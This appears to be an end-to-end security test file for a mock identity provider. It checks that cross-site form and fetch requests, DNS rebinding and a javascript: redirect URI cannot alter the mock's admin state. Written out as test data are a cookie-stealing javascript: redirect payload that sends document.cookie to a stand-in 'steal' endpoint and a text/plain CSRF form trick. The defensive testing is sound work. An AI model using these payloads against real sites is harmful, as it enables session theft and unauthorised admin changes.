import { existsSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { chromium, type Browser } from 'playwright-core'
import { startMockIdp, type MockIdp } from '../../src/index.js'

// The red-team chain, replayed in a real browser: a web page on another origin (127.0.0.2, a
// different site to Chromium) tries to drive the admin API of a mockidp on 127.0.0.1 — register a
// client with a `javascript:` redirect URI, add a user, reset state — by every route a page has that
// needs no preflight (text/plain fetch, `no-cors` fetch, a form POST), and by DNS rebinding (the
// attacker's host name resolved to 127.0.0.1, so the page is "same-origin" with the mock). None of
// them may change anything. Debian's chromium only; MOCKIDP_CHROMIUM points elsewhere.
const CHROMIUM = process.env.MOCKIDP_CHROMIUM ?? '/usr/bin/chromium'
const HAVE_CHROMIUM = existsSync(CHROMIUM)
if (!HAVE_CHROMIUM) console.warn(`\n!! test/e2e/cross-site.test.ts SKIPPED: no Chromium at ${CHROMIUM} (apt-get install -y chromium, or set MOCKIDP_CHROMIUM)\n`)

const REBIND_HOST = 'rebind.attacker.test'
const EVIL_CLIENT = { clientId: 'evil', clientSecret: 's', redirectUris: ['javascript:fetch("//127.0.0.2/steal?"+document.cookie)//'] }
const EVIL_USER = { sub: 'evil', username: 'evil' }

/** The attacker's page: a form that posts JSON-looking text/plain, on its own loopback address. */
function attackerPage(target: string): string {
  const field = JSON.stringify({ ...EVIL_USER, pad: '' }).slice(0, -2) // {"sub":"evil","username":"evil","pad":"  … + '=' + value
  return `<!doctype html><html><body>
<form id="f" method="post" enctype="text/plain" action="${target}/_mockidp/tenants/authing-demo/users" target="sink">
<input name='${field}' value='"}'></form>
<form id="r" method="post" action="${target}/_mockidp/reset" target="sink"><input name="x" value="1"></form>
<iframe name="sink"></iframe></body></html>`
}

function startAttacker(target: () => string): Promise<{ origin: string; close: () => Promise<void> }> {
  const server: Server = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(attackerPage(target())))
  return new Promise((resolve, reject) => {
    server.once('error', reject)
    server.listen(0, '127.0.0.2', () => {
      const { port } = server.address() as AddressInfo
      resolve({ origin: `http://127.0.0.2:${port}`, close: () => new Promise<void>((r) => server.close(() => r())) })
    })
  })
}

describe.skipIf(!HAVE_CHROMIUM)('cross-site chain in headless Chromium: no web page can drive the mock', () => {
  let browser: Browser
  let idp: MockIdp
  let attacker: Awaited<ReturnType<typeof startAttacker>>

  beforeAll(async () => {
    idp = await startMockIdp({ env: {}, config: { clock: '2026-01-01T00:00:00Z' } })
    attacker = await startAttacker(() => idp.url)
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--no-first-run', `--host-resolver-rules=MAP ${REBIND_HOST} 127.0.0.1`],
    })
  }, 60_000)

  afterAll(async () => {
    await browser?.close()
    await idp?.stop()
    await attacker?.close()
  })

  /** What the attack would change: the tenant's clients and users, and the faults (a reset would drop API-added ones). */
  const state = async () => ({
    clients: idp.tenant('authing-demo').clientIds,
    users: ((await (await fetch(`${idp.url}/_mockidp/tenants/authing-demo/users`)).json()) as { users: { sub: string }[] }).users.map((u) => u.sub),
    faults: idp.faults().map((f) => f.id),
  })

  it('text/plain POST, no-cors fetch, form POST and a rebinding Host all fail, and nothing changes', async () => {
    idp.reset()
    const marker = idp.injectFault({ tenant: 'authing-demo', endpoint: 'jwks', kind: 'delay', delayMs: 1 }) // a reset would remove it
    const before = await state()
    const page = await browser.newPage()
    page.setDefaultTimeout(10_000) // a stuck step fails naming itself, inside the test's budget
    const requests: { url: string; status: number }[] = []
    page.on('response', (r) => {
      if (r.url().includes('/_mockidp/')) requests.push({ url: new URL(r.url()).pathname, status: r.status() })
    })
    try {
      await page.goto(`${attacker.origin}/`)
      const admin = `${idp.url}/_mockidp`
      const attempt = (expr: string) => page.evaluate<string>(`(${expr}).then((r) => 'answered ' + r.status + ' ' + r.type, (e) => 'failed: ' + e.name)`)

      // 1. text/plain POST: a "simple" request, sent without a preflight (the response is unreadable, the effect would not be)
      expect(await attempt(`fetch(${JSON.stringify(`${admin}/tenants/authing-demo/clients`)}, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: ${JSON.stringify(JSON.stringify(EVIL_CLIENT))} })`)).toBe('failed: TypeError')
      // 2. no-cors fetch claiming JSON: the browser drops the header, the request goes out as text/plain
      expect(await attempt(`fetch(${JSON.stringify(`${admin}/tenants/authing-demo/clients`)}, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(JSON.stringify(EVIL_CLIENT))} })`)).toBe('answered 0 opaque')
      expect(await attempt(`fetch(${JSON.stringify(`${admin}/reset`)}, { method: 'POST', mode: 'no-cors' })`)).toBe('answered 0 opaque')
      // 3. a CORS JSON POST needs a preflight, which the admin API refuses
      expect(await attempt(`fetch(${JSON.stringify(`${admin}/tenants/authing-demo/users`)}, { method: 'POST', headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(JSON.stringify(EVIL_USER))} })`)).toBe('failed: TypeError')
      // 4. form POSTs: text/plain shaped as JSON, and a plain urlencoded one
      for (const form of ['f', 'r']) {
        const answered = page.waitForResponse((r) => r.url().includes('/_mockidp/'))
        await page.evaluate(`document.getElementById(${JSON.stringify(form)}).submit()`)
        expect((await answered).status()).toBe(403)
      }

      // 5. DNS rebinding: the attacker's name now resolves to the mock; its page is "same-origin" with the admin API
      const port = new URL(idp.url).port
      await page.goto(`http://${REBIND_HOST}:${port}/healthz`)
      const rebound = `http://${REBIND_HOST}:${port}/_mockidp`
      expect(await attempt(`fetch(${JSON.stringify(`${rebound}/tenants/authing-demo/clients`)}, { method: 'POST', headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(JSON.stringify(EVIL_CLIENT))} })`)).toBe('answered 403 basic')
      expect(await attempt(`fetch(${JSON.stringify(`${rebound}/reset`)}, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })`)).toBe('answered 403 basic')
      expect(await page.evaluate<string>(`fetch(${JSON.stringify(`${rebound}/tenants/authing-demo/tokens`)}, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"user":"test1"}' }).then((r) => r.text())`)).toContain('forbidden_host')
    } finally {
      await page.close()
    }
    expect(await state()).toEqual(before)
    expect(idp.faults().map((f) => f.id)).toEqual([marker.id])
    expect(idp.tenant('authing-demo').clientIds).not.toContain('evil')
    // every request that reached the mock was refused: 403 (host, origin) or 415 (not JSON); preflights 403
    expect(requests.length).toBeGreaterThanOrEqual(6)
    for (const r of requests) expect([403, 415], JSON.stringify(r)).toContain(r.status)
  }, 60_000)

  it('the second half of the chain is closed too: a javascript: redirect URI cannot be registered, nor used at authorize', async () => {
    const res = await fetch(`${idp.url}/_mockidp/tenants/authing-demo/clients`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(EVIL_CLIENT) })
    expect(res.status).toBe(400)
    expect(((await res.json()) as { error_description: string }).error_description).toContain('client.redirectUris[0]')
    const page = await browser.newPage()
    page.setDefaultTimeout(10_000) // a stuck step fails naming itself, inside the test's budget
    let dialogs = 0
    page.on('dialog', (d) => {
      dialogs++
      void d.dismiss()
    })
    try {
      const info = idp.tenant('authing-demo')
      const q = new URLSearchParams({ client_id: info.clientIds[0]!, redirect_uri: 'javascript:alert(document.domain)//', response_type: 'code', scope: 'openid', response_mode: 'form_post', login_hint: 'test1' })
      const nav = await page.goto(`${info.authorizationEndpoint}?${q}`)
      expect(nav?.status()).toBe(400)
      expect(await page.locator('form').count()).toBe(0)
      expect(dialogs).toBe(0)
    } finally {
      await page.close()
    }
  }, 30_000)
})
